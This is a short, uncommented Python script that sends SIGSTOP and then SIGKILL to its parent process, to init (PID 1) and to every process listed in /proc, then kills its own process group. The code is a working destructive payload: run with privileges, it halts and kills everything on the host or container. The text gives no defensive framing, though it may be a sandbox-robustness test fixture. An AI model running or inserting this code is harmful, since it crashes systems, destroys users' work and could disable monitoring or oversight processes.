import os
import signal
from pathlib import Path

for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in [os.getppid(), 0, 1, *(int(path.name) for path in Path("/proc").glob("[0-9]*"))]:
        if pid not in (os.getpid(), 0):
            try:
                os.kill(pid, number)
            except OSError:
                pass
os.killpg(0, signal.SIGKILL)
